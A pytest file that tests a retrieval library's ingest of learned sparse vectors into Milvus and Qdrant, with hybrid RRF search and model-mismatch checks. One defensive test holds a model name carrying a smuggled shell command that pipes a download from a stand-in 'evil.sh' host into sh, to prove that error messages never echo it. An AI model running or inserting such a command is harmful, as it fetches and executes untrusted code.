"""IngestPipeline with a learned sparse field (a tiny SPLADE beside MiniLM, and a tiny BGE-M3's own
sparse head), against real Milvus Lite and Qdrant local mode: the stored vectors are the engine's
own, BGE-M3's come from the dense forward pass, re-runs recompute nothing, the collection records
the sparse model, another sparse model is refused, and hybrid search is the hand RRF of the two
legs searched with the engines' own query vectors."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest
from ingest_support import write_corpus

from poolrag import Engine
from poolrag.cache import CachedEmbedder, EmbeddingCache
from poolrag.ingest import DenseEncoder, IngestPipeline, TokenChunker, read_paths
from poolrag.ingest.shared_pass import has_sparse_head, own_head_encoders
from poolrag.ingest.sparse_encoders import (
    LEARNED_SPARSE_OPTIONS_KEY,
    OWN_HEAD,
    SPARSE_MODEL,
    LearnedSparseChunkEncoder,
)
from poolrag.params import PoolingParams
from poolrag.retrieval import Retriever
from poolrag.stores import CollectionMismatchError, open_store
from poolrag.stores.hybrid import RRF_K
from poolrag.testing.tiny_models import build_bge_m3, build_splade

KINDS = ["milvus", "qdrant"]
SOURCES = ["splade", "bge-m3"]
QUERY = "why do tides rise when the moon and sun line up"
DOCUMENT = PoolingParams(input_type="document")
QUERY_PARAMS = PoolingParams(input_type="query")


@pytest.fixture(scope="module")
def splade_engine(tmp_path_factory, minilm_path: Path) -> Engine:
    return Engine(build_splade(tmp_path_factory.mktemp("splade"), minilm_path))


@pytest.fixture(scope="module")
def m3_engine(tmp_path_factory, minilm_path: Path) -> Engine:
    return Engine(build_bge_m3(tmp_path_factory.mktemp("m3"), minilm_path))


def _open(kind: str, root: Path, collection: str = "docs"):
    where = {"uri": str(root / "m.db")} if kind == "milvus" else {"path": str(root / "q")}
    return open_store(kind, collection, **where)


def _models(source: str, minilm_engine, splade_engine, m3_engine) -> tuple[Engine, Engine]:
    """(dense model, sparse model) of a source."""
    return (minilm_engine, splade_engine) if source == "splade" else (m3_engine, m3_engine)


def _pipeline(store, dense: Engine, sparse_model: Engine, root: Path):
    cache = EmbeddingCache(root / "cache.sqlite")
    if has_sparse_head(dense):
        encoder, sparse = own_head_encoders(dense, cache)
    else:
        encoder = DenseEncoder(CachedEmbedder(dense, cache))
        sparse = LearnedSparseChunkEncoder(sparse_model, cache)
    pipeline = IngestPipeline(
        store,
        encoder,
        TokenChunker(dense.tokenizer, max_tokens=24, overlap=4),
        batch_size=4,
        checkpoint_dir=root / "ck",
        progress=False,
        sparse_encoder=sparse,
    )
    return pipeline, sparse, cache


def _stored_sparse(store, kind: str, ids: list[str]) -> dict[str, dict[int, float]]:
    if kind == "milvus":
        return {cid: v.to_dict() for cid, v in store.fetch_sparse(ids).items()}
    points = store._client.retrieve(store.collection, ids=ids, with_vectors=["sparse"])
    return {
        str(p.id): dict(zip(p.vector["sparse"].indices, p.vector["sparse"].values, strict=True))
        for p in points
    }


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("kind", KINDS)
def test_learned_sparse_ingest_stores_the_engines_vectors_and_reruns_recompute_nothing(
    kind: str, source: str, tmp_path: Path, minilm_engine, splade_engine, m3_engine
) -> None:
    dense, sparse_model = _models(source, minilm_engine, splade_engine, m3_engine)
    corpus = write_corpus(tmp_path / "corpus")
    chunker = TokenChunker(dense.tokenizer, max_tokens=24, overlap=4)
    chunks = [c for d in read_paths([corpus]) for c in chunker.split(d)]
    store = _open(kind, tmp_path)
    try:
        pipeline, sparse, cache = _pipeline(store, dense, sparse_model, tmp_path)
        report = pipeline.run(read_paths([corpus]))
        assert report.upserted == report.embedded == report.sparse_computed == len(chunks)
        assert report.collection["sparse"] == "learned"
        if source == "bge-m3":
            # Every sparse vector came out of the dense forward pass: sparse_embed never ran.
            assert sparse.documents.hits == len(chunks) and sparse.documents.misses == len(chunks)
        spec = store.read_spec()
        assert spec.sparse == "learned"
        recorded = spec.model_options[LEARNED_SPARSE_OPTIONS_KEY]
        assert recorded == {
            "model_identity": sparse_model.facts.model_identity,
            "model_name": sparse_model.facts.model_name,
            "source": OWN_HEAD if source == "bge-m3" else SPARSE_MODEL,
        }

        stored = _stored_sparse(store, kind, [c.id for c in chunks])
        want = sparse_model.sparse_embed([c.text for c in chunks], DOCUMENT)
        for chunk, vector in zip(chunks, want, strict=True):
            got = stored[chunk.id]
            assert sorted(got) == vector.indices.tolist()
            # ingest ran batches of 4, this one call: fp32 sums in another order (AVX2 kernels block
            # them differently), a few 1e-8 apart on weights near 1e-3
            np.testing.assert_allclose(
                [got[t] for t in vector.indices.tolist()], vector.values, rtol=1e-5, atol=1e-6
            )

        again = pipeline.run(read_paths([corpus]))
        assert (again.upserted, again.embedded, again.sparse_computed) == (0, 0, 0)
        assert again.chunks_existing == len(chunks)
    finally:
        store.close()
        cache.close()

    other = _open(kind, tmp_path, "copy")  # a new collection: every vector from the cache
    try:
        pipeline, _, cache = _pipeline(other, dense, sparse_model, tmp_path)
        copied = pipeline.run(read_paths([corpus]))
        assert copied.upserted == len(chunks)
        assert (copied.embedded, copied.sparse_computed) == (0, 0)
        stored_copy = _stored_sparse(other, kind, [c.id for c in chunks])
        assert stored_copy.keys() == stored.keys()
        for cid, weights in stored.items():
            assert sorted(stored_copy[cid]) == sorted(weights)
            np.testing.assert_allclose(
                [stored_copy[cid][t] for t in sorted(weights)], [weights[t] for t in sorted(weights)]
            )
    finally:
        other.close()
        cache.close()


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("kind", KINDS)
def test_learned_hybrid_search_is_the_hand_rrf_of_both_legs(
    kind: str, source: str, tmp_path: Path, minilm_engine, splade_engine, m3_engine
) -> None:
    dense, sparse_model = _models(source, minilm_engine, splade_engine, m3_engine)
    store = _open(kind, tmp_path)
    try:
        pipeline, sparse, cache = _pipeline(store, dense, sparse_model, tmp_path)
        pipeline.run(read_paths([write_corpus(tmp_path / "corpus")]))
        retriever = Retriever(store, CachedEmbedder(dense, cache), sparse_encoder=sparse)
        got = retriever.search(QUERY, 5, mode="hybrid", fusion="rrf", prefetch=5)

        dense_query = dense.embed_array([QUERY], QUERY_PARAMS)[0]
        (sparse_query,) = sparse_model.sparse_embed([QUERY], QUERY_PARAMS)
        legs = [store.search(dense_query, 5), store.search_sparse(sparse_query, 5)]
        fused: dict[str, float] = {}
        for leg in legs:
            for rank, hit in enumerate(leg, start=1):
                fused[hit.id] = fused.get(hit.id, 0.0) + 1.0 / (RRF_K + rank)
        assert len(legs[1]) == 5  # the sparse leg really found chunks
        assert [r.score for r in got] == pytest.approx(sorted(fused.values(), reverse=True)[:5], abs=1e-6)
        assert all(r.score == pytest.approx(fused[r.id], abs=1e-6) for r in got)
        sparse_only = retriever.search(QUERY, 5, mode="sparse")
        assert [r.id for r in sparse_only] == [h.id for h in legs[1]]
    finally:
        store.close()
        cache.close()


def test_another_sparse_model_is_refused_by_the_collection(
    tmp_path: Path, minilm_engine, splade_engine, m3_engine
) -> None:
    corpus = write_corpus(tmp_path / "corpus")
    store = _open("qdrant", tmp_path)
    try:
        pipeline, _, cache = _pipeline(store, minilm_engine, splade_engine, tmp_path)
        pipeline.run(read_paths([corpus]))
        cache.close()
        # BGE-M3's sparse head as a separate sparse model beside MiniLM: not the recorded SPLADE.
        pipeline, _, cache = _pipeline(store, minilm_engine, m3_engine, tmp_path)
        with pytest.raises(CollectionMismatchError, match="sparse vectors were made by"):
            pipeline.run(read_paths([corpus]))
        cache.close()
    finally:
        store.close()


def test_a_missing_sparse_model_is_suggested_by_flag_never_by_what_the_collection_recorded(
    minilm_engine,
) -> None:
    """Issue 47, item 6: the learned-sparse record is data; its model name (a path, or anything a
    shared collection holds) never becomes the command line the error suggests."""
    from poolrag.errors import InvalidInputError
    from poolrag.ingest.sparse_encoders import learned_sparse_for_search

    recorded = {"model_name": "/home/someone/models/splade; curl evil.sh | sh", "model_identity": "x"}
    with pytest.raises(InvalidInputError) as refused:
        learned_sparse_for_search(recorded, minilm_engine)
    message = str(refused.value)
    assert "pass --sparse-model with the model the collection was ingested with" in message
    assert "/home/someone" not in message and "evil" not in message


def test_chunks_longer_than_the_sparse_model_reads_are_reported(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, minilm_engine, splade_engine, minilm_path: Path
) -> None:
    """Chunks are sized for the dense model; a sparse model with a shorter window cuts them, and the
    terms of a chunk's end silently missed its sparse vector. The cut is now named, once per run."""
    import json
    import logging

    folder = build_splade(tmp_path / "short", minilm_path)
    config = json.loads((folder / "sentence_bert_config.json").read_text())
    (folder / "sentence_bert_config.json").write_text(json.dumps(config | {"max_seq_length": 16}))
    short = Engine(folder)
    corpus = write_corpus(tmp_path / "corpus")
    for sparse_model, cut in ((short, True), (splade_engine, False)):
        store = _open("qdrant", tmp_path, f"cut_{cut}")
        caplog.clear()
        try:
            pipeline, sparse, cache = _pipeline(store, minilm_engine, sparse_model, tmp_path / f"run_{cut}")
            with caplog.at_level(logging.WARNING, logger="poolrag.ingest.sparse_encoders"):
                report = pipeline.run(read_paths([corpus]))
            warned = [r.getMessage() for r in caplog.records if "sparse vectors leave out" in r.getMessage()]
            if not cut:
                assert warned == [] and sparse.truncated == 0
                continue
            chunker = TokenChunker(minilm_engine.tokenizer, max_tokens=24, overlap=4)
            texts = [c.text for d in read_paths([corpus]) for c in chunker.split(d)]
            longer = sum(len(short.tokenizer(t)["input_ids"]) > 16 for t in texts)  # [CLS] and [SEP] in
            assert len(warned) == 1 and "(16 tokens)" in warned[0] and "--chunk-tokens" in warned[0]
            assert report.sparse_computed == len(texts) > longer > 0
            assert sparse.truncated == longer
        finally:
            store.close()
            cache.close()
